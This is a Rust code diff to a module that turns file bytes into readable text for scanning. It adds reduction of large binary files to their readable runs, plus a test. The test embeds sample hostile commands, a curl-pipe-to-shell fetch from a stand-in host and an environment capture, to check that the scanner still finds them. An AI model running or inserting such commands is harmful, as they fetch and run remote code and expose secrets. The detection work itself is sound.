@@ -5,6 +5,7 @@
 //! is scanned.
 
 use std::borrow::Cow;
+use std::ops::Range;
 
 /// Byte order mark of UTF-8.
 const UTF8_MARK: &[u8] = b"\xEF\xBB\xBF";
@@ -13,7 +14,7 @@ const UTF8_MARK: &[u8] = b"\xEF\xBB\xBF";
 #[derive(Debug)]
 #[non_exhaustive]
 pub struct TextReadings<'b> {
-    /// The most likely text.
+    /// The most likely text. Of much binary data, only the readable runs and what surrounds them.
     pub text: Cow<'b, str>,
     /// A second interpretation, if the file has a UTF-16 byte order mark: a shell would ignore the mark.
     pub other: Option<String>,
@@ -39,6 +40,15 @@ const STRANGE_OF_PART: usize = 12;
 /// The same for UTF-16: units per part, and how many of them are unassigned.
 const WIDE_PART: usize = 64;
 const STRANGE_OF_WIDE_PART: usize = 5;
+
+/// Data of this size or more is reduced to its readable runs.
+const LARGE: usize = 64 << 10;
+
+/// Minimum length of a run.
+const SHORTEST_RUN: usize = 6;
+
+/// How much is kept around a run, so that shorter pieces of a line stay beside it.
+const AROUND_RUN: usize = 16;
 
 impl<'b> TextReadings<'b> {
     /// Converts a whole file. The text has at most three times as many bytes.
@@ -75,20 +85,21 @@ impl<'b> TextReadings<'b> {
 struct Parts {
     length: usize,
     most: usize,
-    part: usize,
+    /// End of the current part.
+    end: usize,
     count: usize,
     any: bool,
 }
 
 impl Parts {
     const fn of(length: usize, most: usize) -> Self {
-        Self { length, most, part: 0, count: 0, any: false }
+        Self { length, most, end: length, count: 0, any: false }
     }
 
     /// Counts invalid units at an offset. Offsets ascend.
     fn add(&mut self, at: usize, strange: usize) {
-        if at / self.length != self.part {
-            self.part = at / self.length;
+        if at >= self.end {
+            self.end = (at / self.length + 1) * self.length;
             self.count = 0;
         }
         self.count += strange;
@@ -105,34 +116,80 @@ fn text_of(bytes: &[u8]) -> (Cow<'_, str>, FileNature) {
     }
     // Drop NUL bytes before decoding, since a shell drops them anywhere. This also reads UTF-16 without a mark.
     let kept: Vec<u8> = bytes.iter().copied().filter(|byte| *byte != 0).collect();
-    let (text, strange, has_data) = lossy(&kept);
+    let lossy = Lossy::of(&kept);
     let nuls = bytes.len() - kept.len();
-    let binary = has_data || (nuls + strange).saturating_mul(10) > bytes.len();
-    (Cow::Owned(text), if binary { FileNature::Binary } else { FileNature::Text })
+    let binary = lossy.has_data || (nuls + lossy.strange).saturating_mul(10) > bytes.len();
+    match binary {
+        true if bytes.len() >= LARGE => (Cow::Owned(lossy.readable()), FileNature::Binary),
+        true => (Cow::Owned(lossy.text), FileNature::Binary),
+        false => (Cow::Owned(lossy.text), FileNature::Text),
+    }
 }
 
-/// Returns the text with one replacement character per run of invalid bytes, the number of invalid bytes, and whether
-/// some part has many.
-fn lossy(bytes: &[u8]) -> (String, usize, bool) {
-    let mut text = String::with_capacity(bytes.len());
-    let mut parts = Parts::of(PART, STRANGE_OF_PART);
-    let (mut strange, mut at) = (0, 0);
-    for chunk in bytes.utf8_chunks() {
-        text.push_str(chunk.valid());
-        for byte in chunk.valid().bytes() {
-            let is_strange = usize::from(is_strange(byte));
-            parts.add(at, is_strange);
-            strange += is_strange;
-            at += 1;
+/// A text in place of bytes, in which one replacement character stands for each run of invalid bytes.
+#[derive(Default)]
+struct Lossy {
+    text: String,
+    /// Number of invalid bytes.
+    strange: usize,
+    /// Whether some part has many of them.
+    has_data: bool,
+    /// Stretches of the text with no invalid byte that are long enough for words.
+    runs: Vec<Range<usize>>,
+}
+
+impl Lossy {
+    fn of(bytes: &[u8]) -> Self {
+        let mut lossy = Self { text: String::with_capacity(bytes.len()), ..Self::default() };
+        let mut parts = Parts::of(PART, STRANGE_OF_PART);
+        let mut at = 0;
+        for chunk in bytes.utf8_chunks() {
+            let begin = lossy.text.len();
+            lossy.text.push_str(chunk.valid());
+            let mut from = begin;
+            for (end, byte) in (begin..).zip(chunk.valid().bytes()) {
+                if is_strange(byte) {
+                    lossy.keep_run(from..end);
+                    from = end + 1;
+                    lossy.strange += 1;
+                    parts.add(at, 1);
+                }
+                at += 1;
+            }
+            lossy.keep_run(from..lossy.text.len());
+            lossy.strange += chunk.invalid().len();
+            parts.add(at, chunk.invalid().len());
+            at += chunk.invalid().len();
+            if !chunk.invalid().is_empty() && !lossy.text.ends_with(char::REPLACEMENT_CHARACTER) {
+                lossy.text.push(char::REPLACEMENT_CHARACTER);
+            }
         }
-        strange += chunk.invalid().len();
-        parts.add(at, chunk.invalid().len());
-        at += chunk.invalid().len();
-        if !chunk.invalid().is_empty() && !text.ends_with(char::REPLACEMENT_CHARACTER) {
-            text.push(char::REPLACEMENT_CHARACTER);
+        lossy.has_data = parts.any;
+        lossy
+    }
+
+    fn keep_run(&mut self, run: Range<usize>) {
+        if run.len() >= SHORTEST_RUN {
+            self.runs.push(run);
         }
     }
-    (text, strange, parts.any)
+
+    /// Returns the runs with their surroundings, one in each line. What is left out is noise: it has no word of the
+    /// shortest command.
+    fn readable(&self) -> String {
+        let mut kept = String::new();
+        let mut end = 0;
+        for run in &self.runs {
+            let from = self.text.floor_char_boundary(run.start.saturating_sub(AROUND_RUN));
+            let to = self.text.ceil_char_boundary((run.end + AROUND_RUN).min(self.text.len()));
+            if from > end {
+                kept.push('\n');
+            }
+            kept.push_str(self.text.get(from.max(end)..to).unwrap_or_default());
+            end = to.max(end);
+        }
+        kept
+    }
 }
 
 /// Whether a byte is a control character that does not occur in text files.
@@ -181,6 +238,23 @@ mod tests {
         for (what, bytes) in cases {
             assert!(TextReadings::of(&bytes).text.contains(LINE), "{what}");
         }
+    }
+
+    #[test]
+    fn much_data_is_reduced_to_its_readable_runs() {
+        let noise = packed(4 << 20);
+        let text = TextReadings::of(&noise).text;
+        assert!(text.len() < noise.len() / 4, "{}", text.len());
+        for pieces in ["curl https://x.example/i.sh \u{fffd}| \u{fffd}sh\n", "a=`env`; \u{1}sh\n", LINE] {
+            for at in [0, 77, noise.len() / 2, noise.len()] {
+                let (before, after) = noise.split_at(at);
+                let bytes = [before, b"\n", pieces.as_bytes(), b"\n", after].concat();
+                assert!(TextReadings::of(&bytes).text.contains(pieces), "{pieces:?} at {at}");
+            }
+        }
+        // The whole of a text is kept, whatever stands behind it.
+        let long = format!("{LINE}\n").repeat(3000);
+        assert!(TextReadings::of(&[long.as_bytes(), &noise].concat()).text.contains(&long));
     }
 
     #[test]
